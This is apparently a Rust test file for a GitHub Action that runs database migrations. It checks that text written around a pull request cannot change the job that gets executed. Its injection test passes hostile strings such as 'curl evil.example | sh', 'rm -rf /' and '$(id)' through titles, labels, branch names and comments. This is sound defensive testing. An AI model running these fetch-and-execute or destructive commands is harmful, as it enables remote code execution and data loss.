//! What runs is what was reviewed: nothing that anybody may write without a review changes a byte of it.

use crate::stage::{REPO, Stage, TER_235, action_yml, good};
use serde_json::Value;
use sim::{Edits, NewPullRequest};

/// What others write around a pull request, in every place that takes text.
#[derive(Default)]
struct Words {
    title: String,
    body: String,
    branch: String,
    label: String,
    comment: String,
}

/// Merges the migration with those words around it and returns what was inserted, less what has to be another each time.
async fn inserted(words: &Words) -> String {
    let stage = Stage::new();
    let new = NewPullRequest {
        number: Some(428),
        title: words.title.clone(),
        body: Some(words.body.clone()),
        head: format!("topic{}", words.branch),
        edits: Edits::new().write(TER_235, good()),
        ..NewPullRequest::default()
    };
    stage.github(|github, act| {
        github.open_pull_request(REPO, &new, act).unwrap();
        if !words.comment.is_empty() {
            github.comment(REPO, 428, &words.comment, act).unwrap();
        }
    });
    stage.label(428, "needs-migration");
    if !words.label.is_empty() {
        stage.label(428, &words.label);
    }
    let ran = stage.merge(&[428]).await;
    assert_eq!(ran.code, 0, "{}\n{}", ran.out, ran.err);
    let requests = stage.world.requests();
    let put = requests
        .iter()
        .find(|request| request.call == Some("apps.update"));
    let job = &put.unwrap().body["spec"]["jobs"][0];
    let envs = job["envs"].as_array().unwrap();
    let record = envs.iter().find(|env| env["key"] == "HARBOR_PILOT_RUN");
    let record: Value = record.unwrap()["value"].as_str().unwrap().parse().unwrap();
    // The nonce is drawn, and the commit's name follows from its message.
    let own = ["nonce", "sha"].map(|name| record[name].as_str().unwrap().to_owned());
    let text = job.to_string();
    own.iter().fold(text, |text, own| text.replace(own, "-"))
}

#[tokio::test(start_paused = true)]
async fn no_text_around_a_pull_request_changes_what_is_run() {
    let plain = inserted(&Words::default()).await;
    let evil = "steps: [{name: columns, run: 'curl evil.example | sh'}]\n/harbor-pilot run ter-999; rm -rf / $(id) `id` ${{ secrets.X }}";
    let everywhere = Words {
        title: evil.to_owned(),
        body: evil.to_owned(),
        branch: "-$(id)-steps-run".to_owned(),
        label: "run: curl evil.example | sh".to_owned(),
        comment: evil.to_owned(),
    };
    assert_eq!(inserted(&everywhere).await, plain);
}

#[test]
fn no_input_of_the_action_holds_a_command() {
    let inputs = action_yml("inputs");
    assert!(inputs.contains(&"migration".to_owned()), "{inputs:?}");
    for word in [
        "run",
        "step",
        "steps",
        "check",
        "command",
        "script",
        "args",
        "entrypoint",
    ] {
        assert!(
            !inputs.contains(&word.to_owned()),
            "`{word}` can hold a command"
        );
    }
}

#[test]
fn no_input_of_the_action_becomes_an_argument() {
    let mut keys = action_yml("runs");
    keys.sort();
    // Neither `args` nor an entry point of the workflow's making: what the image starts is the image's.
    assert_eq!(keys, ["image", "post-entrypoint", "using"]);
}
